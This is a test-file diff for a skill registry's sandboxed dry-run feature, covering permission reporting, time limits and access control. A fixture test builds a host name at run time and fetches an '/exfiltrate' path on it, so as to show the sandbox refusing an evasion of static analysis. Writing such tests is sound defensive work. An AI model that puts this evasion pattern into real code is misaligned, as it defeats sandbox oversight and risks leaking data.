@@ -1,8 +1,9 @@
 import { exports } from "cloudflare:workers";
 import { beforeAll, describe, expect, it, vi } from "vitest";
 import { MANIFEST_FILE, sha256Hex } from "../sdk/skill-sdk/src/package/index";
+import { createDb } from "../worker/db/client";
 import { BUILTIN_SKILLS } from "../worker/features/skills/catalog";
-import { MAX_PACKAGE_BYTES } from "../worker/features/skills/registry";
+import { dryRunVersion, MAX_PACKAGE_BYTES } from "../worker/features/skills/registry";
 import {
   auditRows,
   call,
@@ -418,5 +419,120 @@ describe("review workflow", () => {
       },
       { timeout: 5000, interval: 100 },
     );
+  });
+});
+
+describe("dry-run", () => {
+  const passingTest = `import assert from "node:assert/strict";
+import { test } from "node:test";
+import { handler } from "../src/index.mjs";
+test("answers ok", async () => { assert.deepEqual(await handler(), { ok: true }); });
+test("reaches its declared API", async () => {
+  const res = await fetch("https://api.dry.example/v1/ping");
+  assert.deepEqual(await res.json(), { pong: true });
+  // Built at run time, as code trying to slip past the static analysis would: the sandbox still refuses it.
+  const host = ["elsewhere", "example"].join(".");
+  await assert.rejects(fetch(\`https://\${host}/exfiltrate\`), /not in the manifest/);
+});
+`;
+  const fixtures = JSON.stringify({ "GET https://api.dry.example/v1/ping": { body: { pong: true } } });
+  let tenant: TenantFixture;
+  let versionId: string;
+
+  beforeAll(async () => {
+    tenant = await provisionTenant(await operatorToken(), { planTier: "growth" });
+    const stored = await uploadOk(
+      tenant,
+      await pkg("dry-runner", "1.0.0", {
+        domains: ["api.dry.example"],
+        source: "export async function handler() {\n  return { ok: true };\n}\n",
+        files: { "test/index.test.mjs": passingTest, "test/fixtures.json": fixtures },
+      }),
+    );
+    versionId = stored.version.id as string;
+  });
+
+  const dryRun = (token: string | undefined, id = versionId) =>
+    callJson("POST", `/api/dashboard/skills/package/${id}/dry-run`, { token });
+
+  it("runs the version's tests in the sandbox, reports what they used, and keeps the result for the reviewer", async () => {
+    const res = await dryRun(tenant.adminToken);
+    expect(res.status, JSON.stringify(res.body)).toBe(200);
+    expect(res.body).toMatchObject({ passed: true, tests: { total: 2, passed: 2, failed: 0 } });
+    expect(res.body.output).toContain("ok 2 - reaches its declared API");
+    expect(res.body.permissionsUsed).toEqual([
+      { kind: "network", target: "api.dry.example", allowed: true, count: 1 },
+      { kind: "network", target: "elsewhere.example", allowed: false, count: 1 },
+    ]);
+
+    expect(await submit(tenant, versionId)).toMatchObject({ status: 200 });
+    const op = await operatorToken();
+    const item = await callJson("GET", `/api/admin/skills/review/${versionId}`, { token: op });
+    expect(item.body.item.dryRun.result).toMatchObject({ passed: true, tests: { total: 2 } });
+
+    // The reviewer can run it again; the item shows the new run.
+    const again = await callJson("POST", `/api/admin/skills/review/${versionId}/dry-run`, { token: op });
+    expect(again.status).toBe(200);
+    expect(again.body.item.dryRun.at > item.body.item.dryRun.at).toBe(true);
+    await vi.waitFor(async () => {
+      const rows = (await auditRows(tenant.tenantId)).filter((r) => r.action === "skill.version_dry_run");
+      expect(rows.length).toBe(2);
+      expect(JSON.parse(rows[0]?.details ?? "{}")).toMatchObject({
+        passed: true,
+        refused: ["network:elsewhere.example"],
+      });
+    });
+  });
+
+  it("a test that never ends is stopped at the time limit and reported as such", async () => {
+    const spinning = await uploadOk(
+      tenant,
+      await pkg("dry-spinner", "1.0.0", {
+        files: {
+          "test/spin.test.mjs": 'import { test } from "node:test";\ntest("spins", () => { for (;;) {} });\n',
+        },
+      }),
+    );
+    const res = await dryRun(tenant.adminToken, spinning.version.id as string);
+    expect(res.status).toBe(200);
+    expect(res.body).toMatchObject({ passed: false, limit: "time" });
+    expect(res.body.output).toContain("stopped at the time limit (2000 ms)");
+  });
+
+  it("is refused without a session, to members and to tenant admins on the operator route; 404 for unknown and other tenants' versions", async () => {
+    expect((await dryRun(undefined)).status).toBe(401);
+    const member = await callJson("POST", "/api/dashboard/settings/api-keys", {
+      token: tenant.adminToken,
+      body: { name: "dry-run-viewer", role: "tenant_member" },
+    });
+    expect((await dryRun(member.body.key as string)).status).toBe(403);
+    expect(
+      (await callJson("POST", `/api/admin/skills/review/${versionId}/dry-run`, { token: tenant.adminToken }))
+        .status,
+    ).toBe(403);
+    const unknown = await dryRun(tenant.adminToken, "skv_nothing_here");
+    expect(unknown.status).toBe(404);
+    const other = await provisionTenant(await operatorToken(), { planTier: "growth" });
+    const foreign = await dryRun(other.adminToken);
+    expect(foreign.status).toBe(404);
+    expect(JSON.stringify(foreign.body)).not.toContain("dry-runner");
+    expect((await dryRun(tenant.adminToken, "x".repeat(81))).status).toBe(400);
+  });
+
+  it("answers 503 sandbox_unavailable when the sandbox cannot be reached, and stores nothing", async () => {
+    const unreachable = { ...env, SKILL_SANDBOX_URL: "http://127.0.0.1:1" };
+    const spare = await uploadOk(
+      tenant,
+      await pkg("dry-unreached", "1.0.0", {
+        domains: ["api.dry.example"],
+        files: { "test/a.test.mjs": passingTest },
+      }),
+    );
+    const id = spare.version.id as string;
+    await expect(
+      dryRunVersion(unreachable, createDb(env.DB), id, { tenantId: tenant.tenantId }),
+    ).rejects.toMatchObject({ status: 503, code: "sandbox_unavailable" });
+    const row = await env.DB.prepare("SELECT dry_run FROM skill_versions WHERE id = ?").bind(id).first();
+    expect(row?.dry_run).toBeNull();
   });
 });
